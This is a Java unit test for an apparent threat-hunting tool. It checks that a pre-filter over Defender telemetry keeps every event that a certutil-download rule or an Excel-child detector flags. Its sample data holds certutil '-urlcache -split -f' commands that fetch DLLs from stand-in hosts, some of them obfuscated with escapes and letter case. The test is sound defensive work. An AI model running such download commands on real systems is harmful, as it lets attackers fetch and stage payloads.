package dev.bazahunt.telemetry;

import static dev.bazahunt.telemetry.DefenderTelemetrySamples.FILE_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.NETWORK_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.PROCESS_ROW;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.batch;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.envelope;
import static dev.bazahunt.telemetry.DefenderTelemetrySamples.withColumn;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.rules.ExcelMacroActivity;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * The pre-filter's contract, checked on 20,000 seeded random units: pre-filter-then-parse finds
 * exactly the rule matches and Excel children that parsing everything finds. The units mix the wire
 * forms, random letter case, file names and command lines that hide needle letters behind JSON
 * escapes, escaped slashes, Windows paths and truncation.
 */
class RawPrefilterConservativenessTest {
    private static final String[] FILE_NAMES = {
        "\"EXCEL.EXE\"", "\"excel.exe\"", "\"ExCeL.ExE\"", "\"excel\\u002eexe\"", "\"\\u0045XCEL.EXE\"",
        "\"x8k2.exe\"", "\"certutil.exe\"", "\"CMD.EXE\"", "\"svchost.exe\"", "\"\"", "null", "\"excel.exe \"",
        "\"excel.ex\"", "\"winword.exe\"", "\"e\\u0078cel.exe\"",
    };
    private static final String[] COMMAND_LINES = {
        "\"x8k2.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\\\Users\\\\Public\\\\a.dll\"",
        "\"UPD2.EXE -URLCACHE -SPLIT -F HTTP://198.51.100.7/D.DLL\"",
        "\"x.exe -\\u0075rlcache -split -f http://a.example/b\"",
        "\"x.exe -urlcach\\u0065 -split -f http:\\/\\/a.example\\/b\"",
        "\"x.exe -url\\u0063ache -split -f http://a.example/b\"",
        "\"x.exe -urlcache -split -f https://a.example/b\"",
        "\"svchost.exe -k NetworkService -p -s CryptSvc\"",
        "\"\\\"OneDrive.exe\\\" /background\"",
        "\"cmd.exe /c whoami /groups\"",
        "\"x.exe /urlcache /split /f http://198.51.100.7/e.dll\"",
        "\"x.exe \u2013urlcache -split -f http://198.51.100.7/e.dll\"",
        "\"x.exe urlcache -split -f http://198.51.100.7/e.dll\"",
        "\"x.exe -urlcache -split -f http://a.example/b\\\\\"",
        "null",
    };
    /**
     * Table names as a category or Type gives them: only a DeviceProcessEvents row can be an Excel child,
     * and the dotless i spells no table at all.
     */
    private static final String[] TABLE_NAMES = {"DeviceProcessEvents", "DeviceFileEvents", "DeviceNetworkEvents",
        " deviceprocessEVENTS ", "Dev\u0131ceProcessEvents", "DeviceRegistryEvents"};
    /** The table hints a reader passes on from a file's path; null for a Kafka message. */
    private static final DefenderTable[] HINTS = {null, DefenderTable.DEVICE_FILE_EVENTS,
        DefenderTable.DEVICE_PROCESS_EVENTS, DefenderTable.DEVICE_NETWORK_EVENTS};
    private static final Pattern EXCEL_VALUE = Pattern.compile("\"InitiatingProcessFileName\":\"(?i:excel\\.exe)\"");
    /** Columns that name Excel without making the row an Excel child. */
    private static final String[] OTHER_EXCEL_COLUMNS = {"FileName", "InitiatingProcessParentFileName",
        "ProcessVersionInfoOriginalFileName", "initiatingProcessFileName"};

    @Test
    void prefilterThenParseFindsWhatParsingEverythingFinds() {
        SplittableRandom random = new SplittableRandom(20210721);
        int skipped = 0;
        int keptWithFindings = 0;
        int excelChildrenFound = 0;
        int skippedWithAnExcelValue = 0;
        for (int i = 0; i < 20_000; i++) {
            byte[] unit = randomUnit(random).getBytes(StandardCharsets.UTF_8);
            DefenderTable hint = HINTS[random.nextInt(HINTS.length)];
            Findings all = Findings.of(CollectingSink.parse(unit, hint));
            Findings filtered = RawPrefilter.mayMatter(unit, hint) ? Findings.of(CollectingSink.parse(unit, hint)) : Findings.NONE;
            assertThat(filtered).as(hint + ": " + new String(unit, StandardCharsets.UTF_8)).isEqualTo(all);
            excelChildrenFound += all.excelChildren().isEmpty() ? 0 : 1;
            if (!RawPrefilter.mayMatter(unit, hint)) {
                skipped++;
                skippedWithAnExcelValue += EXCEL_VALUE.matcher(new String(unit, StandardCharsets.UTF_8)).find() ? 1 : 0;
            } else if (!all.equals(Findings.NONE)) {
                keptWithFindings++;
            }
        }
        // The property must not hold vacuously: both outcomes occur often.
        assertThat(skipped).isGreaterThan(2_000);
        assertThat(keptWithFindings).isGreaterThan(2_000);
        // Excel children are found, and Excel values in rows that cannot be process rows are skipped.
        assertThat(excelChildrenFound).as("units with Excel children").isGreaterThan(100);
        assertThat(skippedWithAnExcelValue).as("units skipped with an Excel value").isGreaterThan(100);
    }

    private static String randomUnit(SplittableRandom random) {
        int records = 1 + random.nextInt(3);
        List<String> rows = new ArrayList<>();
        for (int r = 0; r < records; r++) {
            rows.add(randomRow(random));
        }
        String unit = switch (random.nextInt(3)) {
            case 0 -> random.nextBoolean() ? rows.get(0) : withColumn(rows.get(0), "Type", "\"" + randomTable(random, rows.get(0)) + "\"");
            case 1 -> envelope(randomTable(random, rows.get(0)), rows.get(0));
            default -> batch(rows.stream().map(row -> random.nextBoolean() ? envelope(randomTable(random, row), row)
                    : DefenderTelemetrySamples.envelopeWithCategoryLast(randomTable(random, row), row)).toArray(String[]::new));
        };
        if (random.nextInt(3) == 0) {
            unit = DefenderTelemetrySamples.spaceOutColons(unit, random);
        }
        if (random.nextInt(10) == 0) {
            unit = unit.substring(0, random.nextInt(unit.length()));
        }
        return random.nextBoolean() ? unit : DefenderTelemetrySamples.randomCase(unit, random);
    }

    /** Mostly the row's own table; else any name, so that Excel values also sit in other tables' rows. */
    private static String randomTable(SplittableRandom random, String row) {
        if (random.nextBoolean()) {
            return row.contains("ProcessId") ? "DeviceProcessEvents" : "DeviceFileEvents";
        }
        return TABLE_NAMES[random.nextInt(TABLE_NAMES.length)];
    }

    private static String randomRow(SplittableRandom random) {
        String row = switch (random.nextInt(4)) {
            case 0 -> FILE_ROW;
            case 1 -> PROCESS_ROW;
            case 2 -> NETWORK_ROW;
            default -> RawPrefilterTest.BENIGN_ROW;
        };
        if (random.nextInt(4) != 0) {
            row = withColumn(row, "InitiatingProcessFileName", FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
        }
        if (random.nextInt(4) == 0) {
            row = withColumn(row, OTHER_EXCEL_COLUMNS[random.nextInt(OTHER_EXCEL_COLUMNS.length)],
                    FILE_NAMES[random.nextInt(FILE_NAMES.length)]);
        }
        if (random.nextInt(4) != 0) {
            row = withColumn(row, "InitiatingProcessCommandLine",
                    COMMAND_LINES[random.nextInt(COMMAND_LINES.length)]);
        }
        return row;
    }



    /** What the hunt takes from a unit: rule matches and Excel children, by report id. */
    private record Findings(List<Long> ruleMatches, List<Long> excelChildren) {
        static final Findings NONE = new Findings(List.of(), List.of());

        static Findings of(CollectingSink sink) {
            List<Long> matches = new ArrayList<>();
            for (DeviceFileEvent event : sink.fileEvents) {
                if (CertutilDownloadRule.matches(event)) {
                    matches.add(event.reportId);
                }
            }
            List<Long> children = new ArrayList<>();
            for (DeviceProcessEvent event : sink.processEvents) {
                if (ExcelMacroActivity.isExcelChild(event)) {
                    children.add(event.reportId);
                }
            }
            return new Findings(matches, children);
        }
    }
}
